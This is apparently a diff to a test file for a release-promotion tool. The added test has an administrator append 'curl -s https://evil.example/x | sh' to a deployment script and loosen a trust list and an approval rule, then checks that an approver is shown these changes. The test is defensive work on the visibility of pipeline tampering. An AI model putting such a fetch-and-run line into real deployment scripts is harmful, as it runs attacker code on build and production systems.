@@ -1,12 +1,20 @@
 import { removeMember } from '@baton/identity/members'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { getDashboard } from '../dashboard/get-dashboard.ts'
+import { changeRule } from '../environments/change-rule.ts'
 import { getEnvironmentState } from '../environments/get-environment-state.ts'
+import { GUARDED_RULE } from '../environments/rule.ts'
 import { getInbox } from '../inbox/get-inbox.ts'
+import { changeProcess } from '../projects/change-process.ts'
+import { changeTrust } from '../projects/change-trust.ts'
+import { LOCAL_SITE_PROCESS } from '../projects/deployment-process.ts'
+import { getProject } from '../projects/get-project.ts'
 import { evaluatePromotion } from '../promotions/evaluate-promotion.ts'
 import { getPromotion } from '../promotions/get-promotion.ts'
+import { INTENT_MEMBERS } from '../promotions/intent.ts'
 import { listFormerReleases } from '../promotions/list-former-releases.ts'
 import { listPromotions } from '../promotions/list-promotions.ts'
+import { previewPromotion } from '../promotions/preview-promotion.ts'
 import { requestPromotion } from '../promotions/request-promotion.ts'
 import { rollBack } from '../promotions/roll-back.ts'
 import { getRelease } from '../releases/get-release.ts'
@@ -218,8 +226,55 @@ describe('what is live', () => {
     expect(page.comparison.commits).toMatchObject({ sent: true, count: 2, unknownBeyond: [] })
     expect(page.comparison.commits.commits.map((commit) => commit.subject)).toEqual(['Fix rounding', 'Add tax'])
     expect(page.comparison.variables).toEqual([{ name: 'PAYMENT_URL', now: 'http://old', after: 'http://new' }])
-    expect(page.comparison.same).toEqual(['process', 'rules (version 1)'])
+    const rows = Object.fromEntries(page.comparison.members.map((row) => [row.member, row]))
+    expect(Object.keys(rows)).toEqual(INTENT_MEMBERS)
+    expect(rows.process).toMatchObject({ state: 'same', after: 'version 1, 2 steps' })
+    expect(rows.trust).toMatchObject({ state: 'same', after: '1 rule' })
+    expect(rows.rule).toMatchObject({ state: 'same', now: 'version 1', after: 'version 1' })
+    expect(rows.variables?.parts).toMatchObject([
+      { title: 'PAYMENT_URL in staging', change: 'changed', lines: [{ mark: 'removed' }, { mark: 'added' }] },
+    ])
     expect(page.summary.lines[0]).toBe('1.0.0 is there now. 2 commits. 3 of 3 tests passed.')
+  })
+})
+
+describe('an approver', () => {
+  it('is shown the line that an administrator put into the process before a developer fixed a typo', async () => {
+    const { delivery, chen, toProduction, production } = await live()
+    const { owner, projectId } = delivery
+    const steps = LOCAL_SITE_PROCESS.map((step) =>
+      step.kind === 'script' ? { ...step, script: `${step.script}\ncurl -s https://evil.example/x | sh` } : step,
+    )
+    await as(owner, changeProcess, { projectId, expectedVersion: 1, steps })
+    const { trust } = await as(owner, getProject, { projectId })
+    const source = trust[0]?.source ?? ''
+    await as(owner, changeTrust, { projectId, trust: [{ source }, { source: 'https://other.example/x' }] })
+    const { environmentId, rule } = { environmentId: production, rule: { ...GUARDED_RULE, noAuthor: false } }
+    await as(owner, changeRule, { environmentId, expectedVersion: 1, rule })
+    const { releaseId } = await delivery.publish({
+      version: '2.4.1',
+      commits: [{ sha: someSha(), subject: 'Fix a typo' }],
+    })
+    const preview = await as(owner, previewPromotion, { releaseId, environmentId })
+    const asked = { promotionId: await toProduction(releaseId) }
+    const page = await as(chen, getPromotion, asked)
+    for (const { comparison } of [preview, page]) {
+      const rows = Object.fromEntries(comparison.members.map((row) => [row.member, row]))
+      expect(rows.process).toMatchObject({ state: 'changed', now: 'version 1, 2 steps', after: 'version 2, 2 steps' })
+      expect(rows.process?.details[0]).toMatch(/^Ada changed it to version 2 on /)
+      expect(rows.process?.parts[0]?.lines).toContainEqual({
+        mark: 'added',
+        text: '  curl -s https://evil.example/x | sh',
+      })
+      expect(rows.trust).toMatchObject({ state: 'changed', now: '1 rule', after: '2 rules' })
+      expect(rows.rule?.details[0]).toBe('Before: not by an author. After: an author may approve too.')
+      expect(rows.rule?.details[1]).toMatch(/^Ada changed it to version 2 on /)
+    }
+    // Once it is over, it still says what was there before and what came.
+    await deploy(cd, delivery, asked.promotionId)
+    await as(owner, changeTrust, { projectId, trust: [{ source }] })
+    const over = await as(chen, getPromotion, asked)
+    expect(over.comparison.members.find(({ member }) => member === 'trust')).toMatchObject({ after: '2 rules' })
   })
 })
 
